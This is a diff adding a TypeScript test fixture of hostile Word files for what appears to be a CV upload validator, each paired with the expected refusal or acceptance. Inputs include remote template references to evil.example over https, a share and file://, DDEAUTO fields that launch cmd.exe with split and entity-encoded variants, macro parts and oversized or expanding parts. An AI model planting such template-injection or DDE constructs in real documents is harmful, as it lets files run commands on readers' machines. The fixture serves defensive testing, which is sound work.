@@ -1,0 +1,190 @@
+import { docxOf, oleOf } from '../sample-files.ts';
+import { damaged, type HostileFile } from './hostile-file.ts';
+
+const macros = { refused: /macros/ };
+const loading = { refused: /loads parts of it from elsewhere/ };
+const stored = { type: 'application/vnd.openxmlformats-officedocument.wordprocessingml.document' };
+
+/** A document with a relationship of its settings. */
+const relatedTo = (
+  target: string,
+  type = 'attachedTemplate',
+  name = 'word/_rels/settings.xml.rels',
+) =>
+  docxOf({
+    name,
+    content:
+      '<?xml version="1.0" encoding="UTF-8"?><Relationships><Relationship Id="a>b" ' +
+      `Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" ` +
+      `Target='${target}' TargetMode="External"/></Relationships>`,
+  });
+
+/** A document with a part that Word embeds. */
+const embedding = (type: string) =>
+  docxOf({
+    name: 'word/_rels/document.xml.rels',
+    content:
+      '<Relationships><Relationship Id="a" Target="embeddings/a.bin" ' +
+      `Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}"/></Relationships>`,
+  });
+
+/** A document with this text in its header. */
+const headed = (content: string) =>
+  docxOf({ name: 'word/header1.xml', content: `<w:hdr><w:p>${content}</w:p></w:hdr>` });
+
+/** Word documents that would run or load something when they are opened. */
+export const activeDocuments: HostileFile[] = [
+  [
+    'cv_document',
+    'a document with macros',
+    'a.docx',
+    docxOf({ name: 'word/vbaProject.bin', content: '' }),
+    macros,
+  ],
+  [
+    'cv_document',
+    'a Word 97 document with macros',
+    'a.doc',
+    oleOf('WordDocument', '_VBA_PROJECT'),
+    macros,
+  ],
+  [
+    'cv_document',
+    'a template on the web',
+    'a.docx',
+    relatedTo('https://evil.example/a.dotm'),
+    loading,
+  ],
+  [
+    'cv_document',
+    'a template of a share',
+    'a.docx',
+    relatedTo('\\\\evil.example\\a\\a.dotm'),
+    loading,
+  ],
+  [
+    'cv_document',
+    'a template by file://',
+    'a.docx',
+    relatedTo('file://evil.example/a.dotm'),
+    loading,
+  ],
+  [
+    'cv_document',
+    'a picture that is loaded',
+    'a.docx',
+    relatedTo('http://evil.example/a', 'image'),
+    loading,
+  ],
+  [
+    'cv_document',
+    'a template in other letters',
+    'a.docx',
+    relatedTo('&#x68;ttp&#58;//evil.example/a', 'attachedTemplate', 'WORD/_RELS/a.RELS'),
+    loading,
+  ],
+  [
+    'cv_document',
+    'a list of relationships in UTF-16',
+    'a.docx',
+    docxOf({
+      name: 'word/_rels/a.rels',
+      content: Buffer.from('\ufeff<Relationships/>', 'utf16le'),
+    }),
+    damaged,
+  ],
+  [
+    'cv_document',
+    'a list of relationships with entities',
+    'a.docx',
+    docxOf({ name: '_rels/.rels', content: '<!DOCTYPE a [<!ENTITY e "External">]><a/>' }),
+    damaged,
+  ],
+  [
+    'cv_document',
+    'a list of relationships that expands',
+    'a.docx',
+    docxOf({ name: '_rels/.rels', content: ' '.repeat(2 * 1024 * 1024) }),
+    damaged,
+  ],
+  [
+    'cv_document',
+    'a list of relationships that is larger than it says',
+    'a.docx',
+    docxOf({ name: '_rels/.rels', content: ' '.repeat(100_000), claimedSize: 10 }),
+    damaged,
+  ],
+  ...['oleObject', 'control', 'aFChunk', 'attachedToolbars'].map(
+    (type): HostileFile => [
+      'cv_document',
+      `a document with a part of the type ${type}`,
+      'a.docx',
+      embedding(type),
+      { refused: /an embedded object/ },
+    ],
+  ),
+  ...[
+    ['a field that starts a program', '<w:instrText> DDEAUTO c:\\cmd.exe </w:instrText>'],
+    [
+      'such a field in pieces',
+      '<w:instrText xml:space="preserve">D</w:instrText><w:r/><w:instrText>&#68;E "cmd"</w:instrText>',
+    ],
+    ['such a field in other letters', "<x:fldSimple x:instr='&quot;&quot; dde cmd'/>"],
+  ].map(
+    ([what, content = '']): HostileFile => [
+      'cv_document',
+      `a document with ${what}`,
+      'a.docx',
+      headed(content),
+      { refused: /a field that starts a program/ },
+    ],
+  ),
+  [
+    'cv_document',
+    'a document whose text is larger than it says',
+    'a.docx',
+    docxOf({ name: 'word/a.xml', content: ' '.repeat(100_000), claimedSize: 10 }),
+    damaged,
+  ],
+  [
+    'cv_document',
+    'a document whose text expands',
+    'a.docx',
+    docxOf({ name: 'word/a.xml', content: ' '.repeat(70 * 1024 * 1024) }),
+    { refused: /too large when unpacked/ },
+  ],
+  [
+    'cv_document',
+    'a document with page numbers, a chart and the word DDE',
+    'a.docx',
+    docxOf(
+      {
+        name: 'word/footer1.xml',
+        content:
+          '<w:ftr><w:t>DDE</w:t><w:instrText>PAGE</w:instrText><w:fldSimple w:instr="DATE"/></w:ftr>',
+      },
+      {
+        name: 'word/charts/_rels/chart1.xml.rels',
+        content:
+          '<Relationships><Relationship Id="a" Target="../embeddings/a.xlsx" ' +
+          'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/package"/></Relationships>',
+      },
+    ),
+    stored,
+  ],
+  [
+    'cv_document',
+    'a document with a link',
+    'a.docx',
+    relatedTo('https://ana.test', 'hyperlink'),
+    stored,
+  ],
+  [
+    'cv_document',
+    'an own template',
+    'a.docx',
+    relatedTo('file:///C:\\Users\\Ana\\CV.dotx'),
+    stored,
+  ],
+  ['cv_document', 'the usual template', 'a.docx', relatedTo('Normal.dotm'), stored],
+];
